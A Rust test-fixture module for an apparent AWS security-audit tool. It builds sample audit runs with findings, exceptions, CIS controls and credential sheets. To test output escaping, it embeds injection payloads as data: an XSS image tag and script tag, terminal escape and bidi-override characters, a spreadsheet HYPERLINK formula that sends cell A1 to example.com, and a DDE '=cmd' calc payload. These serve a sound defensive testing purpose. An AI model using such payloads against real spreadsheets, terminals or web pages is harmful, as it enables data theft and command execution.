//! A run of two accounts: every outcome and severity, gaps, an accepted failure, and names made to do harm.

use std::collections::BTreeMap;

use probity_model::credentials::{
    AccessKeySheet, CertificateSheet, Dated, OtherCredential, PasswordSheet, Told, UserCredentials,
};
use probity_model::finding::EvidenceItem;
use probity_model::framework::{ControlAccount, ControlCheck, ControlRun, ControlVerdict, FrameworkRun, Observed};
use probity_model::history::{AgeBand, Fixed, FixedFinding, RunPoint, TimeToFix};
use probity_model::parameter::ParameterValue;
use probity_model::run::{
    self, AccountRun, CallCount, CheckRun, ControlReference, GapReport, ParameterInForce, Selection,
};
use probity_model::score::Score;
use probity_model::snapshot::CollectionRequest;
use probity_model::{
    AccountId, Arn, Automation, Exception, ExceptionReport, ExceptionState, Family, Finding, FindingHead,
    FindingHistory, Fingerprint, Gap, GapKind, HistoryReport, Outcome, Partition, Region, ResourceKind, Run, Scope,
    Severity, Timestamp, Topic, Unit,
};

pub(crate) const FIRST: &str = "111122223333";
pub(crate) const SECOND: &str = "012345678901";

/// A name with an escape sequence, a change of direction, HTML, a pipe, a backtick, a mention and a link.
pub(crate) const HOSTILE: &str =
    "\u{1b}[2J\u{9b}31m<img src=x onerror=alert(1)>|`@everyone`|\u{202e}nimda [x](https://example.com) #1\r\n**b**";
/// What a spreadsheet would take for a formula, behind a tab.
pub(crate) const FORMULA: &str = "\t=HYPERLINK(\"https://example.com?\"&A1,\"Click\")";

pub(crate) fn account(id: &str) -> AccountId {
    AccountId::try_from(id).expect("twelve digits")
}

pub(crate) fn region(name: &str) -> Region {
    Region::try_from(name).expect("a Region")
}

fn time(text: &str) -> Timestamp {
    text.parse().expect("a time")
}

/// A check that ran.
fn check(id: &str, family: Family, severity: Severity, fix: &str) -> CheckRun {
    CheckRun {
        id: id.to_owned(),
        family,
        title: format!("Title of {id}"),
        severity,
        scope: Scope::Account,
        automation: Automation::Automated,
        summary: "One sentence.".to_owned(),
        why: "It matters.".to_owned(),
        pass: "It is so.".to_owned(),
        fail: "It is not so.".to_owned(),
        fix: fix.to_owned(),
        command: String::new(),
        parameters: Vec::new(),
        operations: vec!["iam:GenerateCredentialReport".to_owned(), "iam:GetCredentialReport".to_owned()],
        controls: Vec::new(),
        outcomes: BTreeMap::new(),
    }
}

/// A finding of a check on a resource.
pub(crate) fn finding(check: &CheckRun, outcome: Outcome, account_id: &str, resource: &str, message: &str) -> Finding {
    let head = FindingHead {
        check: check.id.as_str().into(),
        family: check.family,
        title: check.title.as_str().into(),
        account: account(account_id),
        operations: check.operations.as_slice().into(),
        observed_at: time("2026-11-22T08:00:03Z"),
    };
    Finding {
        head: head.into(),
        severity: check.severity,
        outcome,
        region: None,
        resource_kind: ResourceKind::IamUser,
        resource: Arn::new(format!("arn:aws:iam::{account_id}:{resource}")),
        discriminator: "".into(),
        message: message.to_owned().into(),
        evidence: vec![
            EvidenceItem { key: "mfa_active".into(), value: "false".into() },
            EvidenceItem { key: "password_last_used".into(), value: "2026-11-20T08:00:00+00:00".into() },
        ],
        gap: None,
        exception: None,
        fingerprint: Fingerprint::of(&[&check.id, account_id, resource, message]),
        history: None,
    }
}

fn denied() -> Gap {
    Gap {
        kind: GapKind::Denied,
        operation: Some("cloudtrail:DescribeTrails".to_owned()),
        region: None,
        code: Some("AccessDeniedException".to_owned()),
        message: "User: arn:aws:iam::111122223333:user/auditor is not authorized to perform: cloudtrail:DescribeTrails"
            .to_owned(),
    }
}

fn calls() -> Vec<CallCount> {
    let count = |operation: &str, region: &str, calls, throttled, failed| CallCount {
        operation: operation.to_owned(),
        region: region.to_owned(),
        calls,
        requests: calls + throttled,
        throttled,
        failed,
    };
    vec![
        count("cloudtrail:DescribeTrails", "eu-central-1", 1, 0, 1),
        count("cloudtrail:DescribeTrails", "us-east-1", 1, 0, 1),
        count("iam:GetAccountAuthorizationDetails", "", 14, 2, 0),
        count("iam:GetCredentialReport", "", 1, 0, 0),
        count("sts:GetCallerIdentity", "", 1, 0, 0),
    ]
}

fn account_run(id: &str, alias: Option<&str>, sample: Option<&str>) -> AccountRun {
    AccountRun {
        account: account(id),
        alias: alias.map(str::to_owned),
        partition: Partition::new("aws"),
        caller: Some(Arn::new(format!("arn:aws:sts::{id}:assumed-role/SecurityAudit/anna@example.com"))),
        regions: vec![region("eu-central-1"), region("us-east-1")],
        taken_at: time("2026-11-22T08:00:00Z"),
        finished_at: time("2026-11-22T08:00:09Z"),
        request: CollectionRequest {
            detail: "standard".to_owned(),
            last_accessed: "none".to_owned(),
            regions: None,
            endpoint: None,
            sample: sample.map(str::to_owned),
        },
        calls: calls(),
    }
}

fn checks() -> [CheckRun; 6] {
    let mut root = check(
        "root-mfa-enabled",
        Family::Root,
        Severity::Critical,
        "Register a passkey for the root user.\nKeep a second one in a safe.\n\nA later paragraph.",
    );
    root.controls = vec![
        ControlReference { framework: "cis-7.0".to_owned(), control: "2.4".to_owned(), proposed: false },
        ControlReference { framework: "nist-800-53".to_owned(), control: "IA-2(1)".to_owned(), proposed: true },
    ];
    let mut keys =
        check("access-key-rotated", Family::Credentials, Severity::Medium, "Create a second key, move to it.");
    keys.parameters = vec![ParameterInForce {
        name: "max_age_days".to_owned(),
        value: ParameterValue::Number(90),
        unit: Unit::Days,
        changed: true,
    }];
    let trail = "trail-multi-region-logs-management-events";
    [
        root,
        check("user-mfa-console-enabled", Family::Mfa, Severity::High, "Have the user register a device."),
        keys,
        check("password-policy-minimum-length", Family::PasswordPolicy, Severity::Low, "Set it to 14 or more."),
        check(trail, Family::LoggingAndMonitoring, Severity::High, "Create a trail for all Regions."),
        check("account-contacts-current", Family::Root, Severity::Info, "Look at the contacts in the console."),
    ]
}

fn findings(checks: &[CheckRun; 6]) -> Vec<Finding> {
    let [root, mfa, keys, length, trail, contacts] = checks;
    let mut key =
        finding(keys, Outcome::Fail, FIRST, "user/build/deployer", "access key 1 is 400 days old, more than 90");
    key.discriminator = "access_key_1".into();
    let mut accepted =
        finding(keys, Outcome::Fail, SECOND, "user/legacy", "access key 2 is 900 days old, more than 90");
    accepted.exception = Some(Box::new(Exception {
        reason: "the mainframe takes no role | yet".to_owned(),
        owner: "platform@example.com".to_owned(),
        ticket: Some("SEC-42".to_owned()),
        expires: Some("2027-01-31".to_owned()),
    }));
    let mut formula = finding(length, Outcome::Fail, FIRST, "user/formula", FORMULA);
    formula.evidence = vec![EvidenceItem { key: "name".into(), value: HOSTILE.into() }];
    let lost = |account: &str, place: &str| {
        let gap = denied().in_region(&region(place));
        let mut finding = finding(trail, Outcome::NotEvaluated, account, "root", &gap.to_string());
        finding.resource_kind = ResourceKind::Region;
        finding.region = Some(region(place));
        finding.gap = Some(Box::new(gap));
        finding
    };
    vec![
        finding(root, Outcome::Fail, FIRST, "root", "the root user has no MFA device"),
        finding(mfa, Outcome::Fail, FIRST, &format!("user/{HOSTILE}"), &format!("{HOSTILE} signs in without MFA")),
        finding(mfa, Outcome::Fail, SECOND, "user/名前", "signs in with a password alone 🔑"),
        key,
        accepted,
        formula,
        lost(FIRST, "eu-central-1"),
        lost(FIRST, "us-east-1"),
        lost(SECOND, "eu-central-1"),
        finding(contacts, Outcome::Manual, FIRST, "root", "look at the contacts under Account in the console"),
        finding(root, Outcome::Pass, SECOND, "root", "the root user has a hardware device"),
        finding(length, Outcome::NotApplicable, SECOND, "root", "there is no IAM user"),
    ]
}

/// The run of a list of findings, its counts and score worked out.
fn run_of(accounts: Vec<AccountRun>, mut checks: Vec<CheckRun>, findings: Vec<Finding>, gaps: Vec<GapReport>) -> Run {
    for check in &mut checks {
        for finding in findings.iter().filter(|finding| finding.check == check.id) {
            *check.outcomes.entry(finding.outcome).or_default() += 1;
        }
    }
    let severity = |id: &str| checks.iter().find(|check| check.id == id).map(|check| check.severity);
    let score = Score::of(&findings, severity);
    Run {
        format: run::FORMAT.to_owned(),
        version: run::VERSION,
        tool_version: "0.1.0".to_owned(),
        id: "0123456789abcdef".to_owned(),
        started_at: time("2026-11-22T08:00:00Z"),
        finished_at: time("2026-11-22T08:00:09Z"),
        selection: Selection { skip: vec!["family:organizations".to_owned()], ..Selection::default() },
        accounts,
        organization: None,
        score,
        checks,
        findings,
        gaps,
        exceptions: Vec::new(),
        history: None,
        frameworks: Vec::new(),
        credentials: Vec::new(),
    }
}

/// The run of two accounts that every format is tested on.
pub(crate) fn run() -> Run {
    let checks = checks();
    let findings = findings(&checks);
    let lost = |account_id: &str, place: &str| GapReport {
        account: account(account_id),
        topic: Topic::Trails,
        gap: denied().in_region(&region(place)).into(),
        checks: ["trail-multi-region-logs-management-events".into()].into(),
    };
    let not_asked = GapReport {
        account: account(FIRST),
        topic: Topic::LastAccessed,
        gap: Gap::not_requested("last-accessed data was not asked for: use --last-accessed privileged").into(),
        checks: [].into(),
    };
    let gaps = vec![lost(FIRST, "eu-central-1"), lost(FIRST, "us-east-1"), lost(SECOND, "eu-central-1"), not_asked];
    let accounts = vec![account_run(FIRST, Some("larkspur-labs"), None), account_run(SECOND, None, None)];
    let mut run = run_of(accounts, checks.to_vec(), findings, gaps);
    run.exceptions = exceptions();
    run.selection.frameworks = vec!["cis-7.0".to_owned()];
    run.frameworks = vec![framework()];
    run.credentials = credentials();
    run
}

/// The same run with a history: one failure is new, one is old and came back, one was fixed.
pub(crate) fn with_history() -> Run {
    let mut run = run();
    let known = |new, reopened, open_since: &str, age_days| {
        Box::new(FindingHistory {
            first_seen: time("2026-01-02T08:00:00Z"),
            open_since: time(open_since),
            last_seen: time("2026-11-22T08:00:00Z"),
            age_days,
            reopened,
            new,
        })
    };
    let failing = |finding: &&mut Finding| finding.outcome == Outcome::Fail;
    for (index, finding) in run.findings.iter_mut().filter(failing).enumerate() {
        finding.history = Some(match index {
            0 => known(true, 0, "2026-11-22T08:00:00Z", 0),
            1 => known(false, 2, "2026-08-01T08:00:00Z", 113),
            _ => known(false, 0, "2026-11-02T08:00:00Z", 20),
        });
    }
    let point = |id: &str, day: &str, score, new, fixed| RunPoint {
        id: id.to_owned(),
        started_at: time(day),
        score,
        coverage_percent: 80,
        open: BTreeMap::from([(Severity::Critical, 1), (Severity::High, 2)]),
        new,
        fixed,
    };
    let before = point("fedcba9876543210", "2026-11-21T08:00:00Z", Some(12), 0, 0);
    let fixed = FixedFinding {
        check: "access-key-rotated".to_owned(),
        severity: Severity::Medium,
        account: account(FIRST),
        region: None,
        resource: Arn::new(format!("arn:aws:iam::{FIRST}:user/{HOSTILE}")),
        discriminator: "access_key_2".to_owned(),
        fingerprint: Fingerprint::of(&["gone"]),
        open_since: time("2026-10-01T08:00:00Z"),
        how: Fixed::Gone,
    };
    let bands = AgeBand::LIMITS.into_iter().zip([1, 3, 0, 1]);
    run.history = Some(HistoryReport {
        previous: Some(before.clone()),
        new: 1,
        fixed: vec![fixed],
        aging: bands.map(|((from_days, to_days), open)| AgeBand { from_days, to_days, open }).collect(),
        trend: vec![before, point(&run.id, "2026-11-22T08:00:00Z", run.score.value, 1, 1)],
        time_to_fix: vec![TimeToFix { severity: Severity::Medium, fixed: 3, mean_hours: 300 }],
    });
    run
}

/// One exception in each state, hostile where a person writes.
fn exceptions() -> Vec<ExceptionReport> {
    let one = |state, resource: &str, findings| ExceptionReport {
        check: "access-key-*".to_owned(),
        resource: resource.to_owned(),
        account: "*".to_owned(),
        agreement: Exception {
            reason: "the mainframe takes no role | yet".to_owned(),
            owner: "platform@example.com".to_owned(),
            ticket: Some("SEC-42".to_owned()),
            expires: Some("2027-01-31".to_owned()),
        },
        state,
        findings,
    };
    let mut expired = one(ExceptionState::Expired, "user/build/*", 1);
    expired.agreement.expires = Some("2026-10-31".to_owned());
    expired.account = FIRST.to_owned();
    let mut unused = one(ExceptionState::Unused, HOSTILE, 0);
    unused.agreement = Exception { owner: FORMULA.to_owned(), ..Exception::default() };
    vec![one(ExceptionState::InForce, "user/legacy", 1), expired, unused, one(ExceptionState::NotJudged, "user/x", 0)]
}

/// A framework of two sections with every verdict, and a title made to do harm.
fn framework() -> FrameworkRun {
    let control = |id: &str, section: &str, verdict, reason: &str| ControlRun {
        id: id.to_owned(),
        title: format!("What {id} demands"),
        section: section.to_owned(),
        verdict,
        reason: reason.to_owned(),
        checks: Vec::new(),
        planned: Vec::new(),
        accounts: Vec::new(),
        observed: None,
    };
    let people = "Identity";
    let other = "Storage";
    let mut root = control("2.4", people, ControlVerdict::Fail, "1 of 2 fail");
    root.checks = vec![ControlCheck {
        check: "root-mfa-enabled".to_owned(),
        title: "Title of root-mfa-enabled".to_owned(),
        proposed: true,
        ran: true,
        outcomes: BTreeMap::from([(Outcome::Fail, 1), (Outcome::Pass, 1)]),
        accepted: 0,
    }];
    root.accounts = vec![
        ControlAccount { account: account(SECOND), verdict: ControlVerdict::Pass },
        ControlAccount { account: account(FIRST), verdict: ControlVerdict::Fail },
    ];
    root.observed = Some(Observed {
        resources: BTreeMap::from([(ResourceKind::IamUser, 2)]),
        operations: vec!["iam:GetAccountSummary".to_owned()],
        regions: vec![region("eu-central-1")],
        first: time("2026-11-22T08:00:01Z"),
        last: time("2026-11-22T08:00:03Z"),
    });
    let mut left_out = control("2.5", people, ControlVerdict::NotEvaluated, "none of its checks ran");
    left_out.checks = vec![ControlCheck {
        check: "user-unused".to_owned(),
        title: "Title of user-unused".to_owned(),
        proposed: false,
        ran: false,
        outcomes: BTreeMap::new(),
        accepted: 0,
    }];
    let mut partly = control("2.6", people, ControlVerdict::Partly, "3 pass; 1 more check is meant for it");
    partly.planned = vec!["of-tomorrow".to_owned()];
    let mut hostile = control("2.7", people, ControlVerdict::Manual, FORMULA);
    hostile.title = HOSTILE.to_owned();
    let controls = vec![
        root,
        left_out,
        partly,
        hostile,
        control("2.8", people, ControlVerdict::NotAnswered, "1 check is meant for it"),
        control("3.1", other, ControlVerdict::Pass, "2 of 2 pass"),
        control("3.2", other, ControlVerdict::NotApplicable, "there is nothing that it applies to"),
        control("3.3", other, ControlVerdict::OutOfScope, "Left to tools that look at storage"),
    ];
    let mut verdicts = BTreeMap::new();
    for control in &controls {
        *verdicts.entry(control.verdict).or_default() += 1;
    }
    FrameworkRun {
        id: "cis-7.0".to_owned(),
        title: "CIS AWS Foundations Benchmark".to_owned(),
        publisher: "Center for Internet Security".to_owned(),
        version: "7.0.0".to_owned(),
        source: "Titles in our own words".to_owned(),
        controls,
        verdicts,
    }
}

/// A root user, a user with everything, one with a hostile name, and an account whose users nobody could list.
fn credentials() -> Vec<UserCredentials> {
    let none = |why: &str| Told::None(why.to_owned());
    let user = |account_id: &str, name: &str| UserCredentials {
        account: account(account_id),
        user: Told::Known(name.to_owned()),
        arn: Told::Known(Arn::new(format!("arn:aws:iam::{account_id}:user/{name}"))),
        as_of: time("2026-11-22T08:00:00Z"),
        report_generated_at: Told::Known(time("2026-11-22T07:00:00Z")),
        created: dated("2024-11-22T08:00:00Z"),
        password: PasswordSheet {
            enabled: Told::Known(false),
            changed: Told::None("no password".to_owned()),
            last_used: Told::None("no password".to_owned()),
        },
        mfa_active: Told::Known(false),
        mfa_kinds: Told::None("no device".to_owned()),
        access_keys: [no_key(), no_key()],
        certificates: [no_certificate(), no_certificate()],
        ssh_keys: Told::None(String::new()),
        service_credentials: Told::None(String::new()),
        failing: Vec::new(),
        accepted: Vec::new(),
        not_evaluated: Vec::new(),
    };
    let mut root = user(FIRST, "<root_account>");
    root.arn = Told::Known(Arn::new(format!("arn:aws:iam::{FIRST}:root")));
    root.ssh_keys = none_list();
    root.failing = vec!["root-mfa-enabled".to_owned()];
    let mut anna = user(FIRST, "anna");
    anna.password = PasswordSheet {
        enabled: Told::Known(true),
        changed: dated("2026-08-14T08:00:00Z"),
        last_used: dated("2026-11-20T08:00:00Z"),
    };
    anna.mfa_active = Told::Known(true);
    anna.mfa_kinds = Told::Known(vec!["fido".to_owned(), "virtual".to_owned()]);
    anna.access_keys[0] = AccessKeySheet {
        id: Told::Known("AKIAEXAMPLEEXAMPLE01".to_owned()),
        status: Told::Known("active".to_owned()),
        created: dated("2025-10-18T08:00:00Z"),
        last_used: none_dated("never, as far as AWS has noted"),
        last_used_service: none("never used"),
        last_used_region: none("never used"),
    };
    anna.service_credentials = Told::Known(vec![OtherCredential {
        id: "ACCAEXAMPLE".to_owned(),
        service: "codecommit.amazonaws.com".to_owned(),
        active: true,
        created: Some(Dated { at: time("2025-10-18T08:00:00Z"), days: 400 }),
        expires_at: Some(time("2027-01-31T00:00:00Z")),
    }]);
    anna.failing = vec!["access-key-rotated".to_owned()];
    anna.accepted = vec!["user-mfa-console-enabled".to_owned()];
    let mut formula = user(FIRST, "=cmd|' /C calc'!A0");
    formula.mfa_kinds = Told::Missing(format!("iam:ListMFADevices was denied (AccessDenied): {HOSTILE}"));
    let mut nobody = user(SECOND, "");
    nobody.user = Told::Missing("iam:GetCredentialReport was denied (AccessDenied): no".to_owned());
    nobody.arn = Told::Missing("iam:GetCredentialReport was denied (AccessDenied): no".to_owned());
    nobody.not_evaluated = vec!["user-mfa-console-enabled".to_owned()];
    vec![root, formula, anna, nobody]
}

fn dated(at: &str) -> Told<Dated> {
    Told::Known(Dated::new(time(at), time("2026-11-22T08:00:00Z")))
}

fn none_dated(why: &str) -> Told<Dated> {
    Told::None(why.to_owned())
}

fn none_list() -> Told<Vec<OtherCredential>> {
    Told::None("the root user cannot have one".to_owned())
}

fn no_key() -> AccessKeySheet {
    let none = || Told::None("no key".to_owned());
    AccessKeySheet {
        id: none(),
        status: none(),
        created: none_dated("no key"),
        last_used: none_dated("no key"),
        last_used_service: none(),
        last_used_region: none(),
    }
}

fn no_certificate() -> CertificateSheet {
    CertificateSheet { status: Told::None("no certificate".to_owned()), uploaded: none_dated("no certificate") }
}

/// Findings that carry ways: one that two users share, one of two steps that nobody can prove.
pub(crate) fn with_ways() -> Run {
    let mut run = run();
    let check = check("privesc-policy-write", Family::PrivilegeEscalation, Severity::Critical, "Take it away.");
    let way = |outcome, user: &str, steps: &[(&str, &str)]| {
        let mut finding = finding(&check, outcome, FIRST, user, "may become an administrator");
        let item = |key: &str, value: &str| EvidenceItem { key: key.into(), value: value.into() };
        let pairs = steps.iter().flat_map(|(method, target)| {
            [item("method", method), item("target", target), item("statement", "policy, statement 1")]
        });
        finding.evidence = pairs.collect();
        finding
    };
    let direct: &[(&str, &str)] = &[("put-own-user-policy", "user/anna with any policy")];
    let chain: &[(&str, &str)] = &[("assume-role", "role/deploy"), ("passrole-ec2-runinstances", HOSTILE)];
    run.findings.extend([
        way(Outcome::Fail, "user/anna", direct),
        way(Outcome::Fail, "user/zoe", direct),
        way(Outcome::NotEvaluated, "user/<script>alert(1)</script>", chain),
    ]);
    run.checks.push(check);
    run
}

/// A sample account without a failure, where most could not be read.
pub(crate) fn sample() -> Run {
    let checks = checks();
    let kept = |finding: &Finding| finding.account.as_str() == FIRST && finding.outcome != Outcome::Fail;
    let findings = findings(&checks).into_iter().filter(kept).collect();
    let account = account_run(FIRST, Some("larkspur-labs"), Some("an invented company of 40 people"));
    run_of(vec![account], checks.to_vec(), findings, Vec::new())
}

/// An account with one check that fails `count` times, on users whose names tell them apart.
pub(crate) fn many(count: usize) -> Run {
    let [_, mfa, ..] = checks();
    let users = (0..count).map(|n| finding(&mfa, Outcome::Fail, FIRST, &format!("user/user-{n:06}"), "has no MFA"));
    run_of(vec![account_run(FIRST, None, None)], vec![mfa.clone()], users.collect(), Vec::new())
}
